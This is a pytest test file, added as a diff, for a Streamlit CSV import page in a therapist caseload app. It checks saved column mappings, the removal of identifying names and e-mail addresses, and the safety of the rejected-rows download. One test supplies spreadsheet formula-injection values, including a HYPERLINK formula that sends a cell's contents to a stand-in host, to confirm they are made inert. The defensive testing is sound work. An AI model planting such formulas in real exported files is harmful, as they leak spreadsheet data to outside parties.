@@ -1,0 +1,221 @@
+"""The Import page as a therapist uses it: hand mappings remembered, identifiers kept out, safe downloads."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+from streamlit.testing.v1 import AppTest
+
+APP = str(Path(__file__).resolve().parent.parent / "app.py")
+PAGE = "views/import_data.py"
+FORMULA_STARTS = ("=", "+", "-", "@")
+
+
+@pytest.fixture
+def page(monkeypatch, tmp_path):
+    """The Import page of app.py on a fresh store file of its own."""
+    monkeypatch.setenv("CASELOAD_DB", str(tmp_path / "store.duckdb"))
+    monkeypatch.delenv("CASELOAD_MEASURES", raising=False)
+    at = AppTest.from_file(APP, default_timeout=120).run()
+    at.switch_page(PAGE).run()
+    assert not at.exception
+    return at
+
+
+@pytest.fixture
+def downloads(monkeypatch) -> list[bytes]:
+    """The bytes of every download the page offers, in order (captured where Streamlit stores them)."""
+    captured: list[bytes] = []
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def capture(self, path_or_data, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
+        if isinstance(path_or_data, bytes):
+            captured.append(path_or_data)
+        return original(self, path_or_data, *args, **kwargs)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", capture)
+    return captured
+
+
+def _upload(at: AppTest, name: str, text: str) -> AppTest:
+    at.file_uploader(key="upload").upload(name, text.encode("utf-8"), "text/csv").run()
+    assert not at.exception, at.exception
+    return at
+
+
+def _import(at: AppTest) -> AppTest:
+    at.button(key="do_import").click().run()
+    assert not at.exception, at.exception
+    return at
+
+
+def _widget(at: AppTest, suffix: str):
+    for box in at.selectbox:
+        if box.key and box.key.endswith(suffix):
+            return box
+    raise AssertionError(f"no selectbox with a key ending in {suffix!r}")
+
+
+def _metrics(at: AppTest) -> dict[str, str]:
+    return {m.label: m.value for m in at.metric}
+
+
+def _page_text(at: AppTest) -> str:
+    """Everything the page shows as text: messages, tables (with their headers) and widget choices."""
+    parts = []
+    for kind in ("markdown", "caption", "error", "warning", "info", "success", "title", "subheader"):
+        parts += [str(e.value) for e in at.get(kind)]
+    for frame in at.dataframe:
+        parts.append(frame.value.to_csv())
+    for box in [*at.selectbox, *at.multiselect]:
+        parts += [str(o) for o in box.options]
+    return "\n".join(parts)
+
+
+def _store_text() -> str:
+    """Every row of every table in the store, as text (read through the page's own connection)."""
+    from views._shared import get_connection
+
+    con = get_connection()
+    tables = [r[0] for r in con.execute("select table_name from information_schema.tables").fetchall()]
+    return "\n".join(repr(con.execute(f'select * from "{t}"').fetchall()) for t in tables)
+
+
+def _saved_mappings() -> list[dict]:
+    from views._shared import get_connection
+
+    return [json.loads(m) for (m,) in get_connection().execute("select mapping from mappings").fetchall()]
+
+
+ODD = "Kennung,Tag,Punkte,Extra\nX1,05.01.2026,20,11\nX1,12.01.2026,22.5,12\n"
+ODD_NEXT = "Kennung,Tag,Punkte,Extra\nX2,19.01.2026,30,13\nX2,26.01.2026,31,14\n"
+
+
+def test_a_hand_mapping_is_applied_to_next_months_file_and_the_page_says_so(page):
+    at = _upload(page, "march.csv", ODD)
+    _widget(at, "__client_id").select("Kennung").run()
+    _widget(at, "__session_date").select("Tag").run()
+    _widget(at, "__m0_measure").select("ORS").run()
+    _widget(at, "__m0_total").select("Punkte").run()
+    _import(at)
+    assert _metrics(at)["Imported"] == "2"
+    _upload(at, "april.csv", ODD_NEXT)
+    assert not at.warning
+    assert any("mapping saved for files with these columns was applied" in str(c.value) for c in at.caption)
+    assert (_widget(at, "__m0_measure").value, _widget(at, "__m0_total").value) == ("ORS", "Punkte")
+    _import(at)
+    assert _metrics(at) == {"Rows read": "2", "Imported": "2", "Duplicate": "0", "Rejected": "0"}
+
+
+def test_a_changed_mapping_is_used_for_that_file_and_saved_for_the_next(page):
+    at = _upload(page, "march.csv", ODD)
+    _widget(at, "__client_id").select("Kennung").run()
+    _widget(at, "__session_date").select("Tag").run()
+    _widget(at, "__m0_measure").select("ORS").run()
+    _widget(at, "__m0_total").select("Punkte").run()
+    _import(at)
+    _upload(at, "april.csv", ODD_NEXT)
+    _widget(at, "__m0_measure").select("CORS").run()
+    _widget(at, "__m0_total").select("Extra").run()
+    _import(at)
+    from views._shared import get_connection
+
+    stored = get_connection().execute("select measure, total from ratings where client_id = 'X2'").fetchall()
+    assert sorted(stored) == [("CORS", 13.0), ("CORS", 14.0)]
+    assert [m["measures"][0]["measure"] for m in _saved_mappings()] == ["CORS"]
+    _upload(at, "may.csv", "Kennung,Tag,Punkte,Extra\nX3,02.02.2026,25,15\n")
+    assert (_widget(at, "__m0_measure").value, _widget(at, "__m0_total").value) == ("CORS", "Extra")
+
+
+def _rejected_download(at: AppTest, downloads: list[bytes]) -> list[dict[str, str]]:
+    assert [b.proto.label for b in at.get("download_button")][0] == "Download rejected rows (CSV)"
+    rejected = [d for d in downloads if d.startswith(b"file,import_id,row")]
+    assert rejected, "the rejected-rows CSV was offered"
+    return list(csv.DictReader(io.StringIO(rejected[-1].decode("utf-8"))))
+
+
+def test_the_rejected_rows_download_lists_every_row_and_runs_no_formula_in_a_spreadsheet(page, downloads):
+    values = ['=HYPERLINK("http://x.example/?"&A1;"open")', "+1+2", "-3+4", "@SUM(1;2)", "55"]
+    text = "client_id,session_date,session_number,measure,total\nC1,2026-01-05,1,ORS,20\n" + "".join(
+        f'C1,2026-01-{12 + i:02d},{i + 2},ORS,"{v.replace(chr(34), chr(34) * 2)}"\n'
+        for i, v in enumerate(values)
+    )
+    at = _import(_upload(page, "formulas.csv", text))
+    assert _metrics(at) == {"Rows read": "6", "Imported": "1", "Duplicate": "0", "Rejected": "5"}
+    rows = _rejected_download(at, downloads)
+    assert [r["row"] for r in rows] == ["2", "3", "4", "5", "6"]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(FORMULA_STARTS), row
+    assert [r["value"].lstrip("'") for r in rows] == values  # the value is kept, only made inert
+
+
+NOTES_AND_NAMES = (
+    "Client ID,Client Name,Therapist,Session Date,Session,ORS,SRS,Notes\n"
+    "C1,Hannah Whitfield,T1,2026-03-11,1,29.7,38.3,write to hannah.w@example.org\n"
+    "C1,Hannah Whitfield,T1,2026-03-18,2,not zed.q@example.net,38.3,\n"
+    "C2,Marcus Hartmann,T1,2026-03-11,1,55,38.3,\n"
+)
+IDENTIFYING = ("Hannah", "Whitfield", "Marcus", "Hartmann", "hannah.w", "zed.q", "example.org", "example.net")
+
+
+def test_dropping_identifier_columns_keeps_every_identifying_value_out_of_page_store_and_downloads(
+    page, downloads
+):
+    at = _upload(page, "clients.csv", NOTES_AND_NAMES)
+    refusal = str(at.error[0].value)
+    assert "**Client Name**" in refusal and "**Notes**" in refusal
+    assert at.button(key="do_import").disabled
+    at.checkbox(key="drop_identifiers").check().run()
+    _import(at)
+    assert _metrics(at) == {"Rows read": "3", "Imported": "3", "Duplicate": "0", "Rejected": "0"}
+    report = json.dumps(at.session_state["import_last_report"])
+    rejected = _rejected_download(at, downloads)
+    assert {r["row"] for r in rejected} == {"2", "3"}
+    seen = {
+        "page": _page_text(at),
+        "store": _store_text(),
+        "report": report,
+        "download": "\n".join(d.decode("utf-8", "replace") for d in downloads),
+    }
+    for where, text in seen.items():
+        for value in IDENTIFYING:
+            assert value not in text, (where, value)
+
+
+EMAIL_HEADER = (
+    "client_id,session_date,session_number,measure,total,anna.berg@example.org\n"
+    "C1,2026-01-05,1,ORS,20,x\n"
+    "C1,2026-01-12,2,ORS,22,y\n"
+)
+
+
+def test_a_header_that_is_an_email_address_is_refused_and_never_shown_or_stored(page, downloads):
+    at = _upload(page, "mail_header.csv", EMAIL_HEADER)
+    assert at.button(key="do_import").disabled, "a column headed by an e-mail address is an identifier"
+    assert "anna.berg" not in _page_text(at)
+    at.checkbox(key="drop_identifiers").check().run()
+    _import(at)
+    assert _metrics(at)["Imported"] == "2"
+    for where, text in {
+        "page": _page_text(at),
+        "store": _store_text(),
+        "report": json.dumps(at.session_state["import_last_report"]),
+    }.items():
+        assert "anna.berg" not in text, where
+
+
+def test_a_client_code_column_holding_email_addresses_is_refused_naming_that_column(page):
+    text = "client_id,session_date,session_number,measure,total\nmia.k@example.org,2026-01-05,1,ORS,20\n"
+    at = _upload(page, "codes.csv", text)
+    assert "**client_id**" in str(at.error[0].value)
+    at.checkbox(key="drop_identifiers").check().run()
+    _import(at)
+    messages = " ".join(str(e.value) for e in at.error)
+    assert "the client code column client_id holds identifiers" in messages
+    assert "mia.k" not in _page_text(at) and "mia.k" not in _store_text()
